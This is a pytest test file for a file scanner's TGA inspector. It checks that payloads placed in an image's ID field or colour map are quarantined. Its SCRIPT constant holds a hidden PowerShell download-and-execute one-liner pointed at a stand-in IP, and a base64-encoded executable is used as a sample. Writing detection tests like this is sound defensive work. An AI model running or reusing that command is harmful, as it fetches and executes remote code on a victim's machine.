"""A TGA's image ID and colour map are judged (agent/inspect/tga.py).

TGA 2.0 specification: byte 0 of the header is the length of the image ID (up to 255
bytes of free text after the 18-byte header), bytes 5-7 the colour map's length and entry
size; the map follows the ID. Both are values of the writer's choosing.
"""

from __future__ import annotations

import base64
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIDE = 64  # pixels
MAP_ENTRIES = 256


def _tga(image_id: bytes = b"", colour_map: bytes = b"") -> bytes:
    """An uncompressed 64x64 image: colour-mapped (type 1, 24-bit entries) with a map, else
    true-colour (type 2); origin top-left."""
    mapped = bool(colour_map)
    header = bytes([len(image_id), int(mapped), 1 if mapped else 2])
    header += struct.pack("<HHB", 0, len(colour_map) // 3, 24 if mapped else 0)
    header += struct.pack("<HHHHBB", 0, 0, SIDE, SIDE, 8 if mapped else 24, 0x20)
    return header + image_id + colour_map + bytes(SIDE * SIDE * (1 if mapped else 3))


def _verdict(data: bytes) -> str:
    return inspect_bytes("scan.tga", data).verdict.value


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_image_id_is_quarantined(kind: str) -> None:
    assert _verdict(_tga(image_id=PAYLOADS[kind][:255])) == "quarantine"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_colour_map_is_quarantined(kind: str) -> None:
    colour_map = PAYLOADS[kind][: MAP_ENTRIES * 3].ljust(MAP_ENTRIES * 3, b" ")
    report = inspect_bytes("scan.tga", _tga(colour_map=colour_map))
    assert report.verdict.value == "quarantine"
    assert "tga.payload_in_metadata" in {f.code for f in report.findings}


def test_a_writers_image_id_and_a_grey_colour_map_stay_clean() -> None:
    grey = bytes(value for value in range(MAP_ENTRIES) for _ in range(3))
    assert _verdict(_tga(image_id=b"Created with GIMP", colour_map=grey)) == "clean"
